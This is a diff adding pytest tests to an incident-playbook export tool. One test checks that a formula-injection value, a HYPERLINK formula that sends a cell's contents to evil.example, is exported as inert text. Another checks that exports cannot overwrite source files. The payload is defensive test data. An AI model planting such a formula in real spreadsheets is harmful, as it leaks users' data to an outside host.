@@ -170,3 +170,39 @@ def test_a_renamed_role_is_renamed_in_the_exports(tmp_path: Path) -> None:
     assert "Incident Commander" in header and "Incident Manager" not in header
     data = json.loads(export(project, "json", tmp_path / "p.json").read_text("utf-8"))
     assert "Incident Manager" not in json.dumps(data)
+
+
+def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
+    project = tmp_path / "playbook"
+    assert rolebook("init", str(project), cwd=tmp_path).returncode == 0
+    (project / "roles" / "activities.yaml").write_text(
+        "extends: default\nadd:\n"
+        "  - id: sneaky\n"
+        '    name: \'=HYPERLINK("http://evil.example/?"&A1,"Click")\'\n'
+        "    phase: respond\n"
+        "    raci: {management-leadership: A, communication-lead: R}\n",
+        "utf-8",
+    )
+    book = load_workbook(export(project, "xlsx", tmp_path / "r.xlsx"))
+    cells = [
+        c
+        for row in book["RACI"].iter_rows()
+        for c in row
+        if isinstance(c.value, str) and "HYPERLINK" in c.value
+    ]
+    assert len(cells) == 1 and cells[0].data_type == "s"
+    rows = export(project, "csv", tmp_path / "r.csv").read_text("utf-8").splitlines()
+    assert any(row.startswith("\"'=HYPERLINK(") for row in rows)
+    assert not any(row.startswith("=") for row in rows)
+
+
+def test_exports_never_write_over_the_sources(project: Path, tmp_path: Path) -> None:
+    before = (project / "site_config" / "playbook.yaml").read_bytes()
+    for fmt, target in (("csv", "site_config/playbook.yaml"), ("json", "mkdocs.yml"), ("csv", "roles/x.csv")):
+        result = rolebook("export", "--format", fmt, "-o", target, cwd=project)
+        assert result.returncode == 1 and "inside the playbook's sources" in result.stderr
+    result = rolebook("cards", "-o", "roles/activities.yaml", cwd=project)
+    assert result.returncode == 1
+    assert (project / "site_config" / "playbook.yaml").read_bytes() == before
+    stdout = rolebook("export", "--format", "csv", "-o", "-", cwd=project)
+    assert stdout.returncode == 0 and stdout.stdout.startswith("activity,phase,")
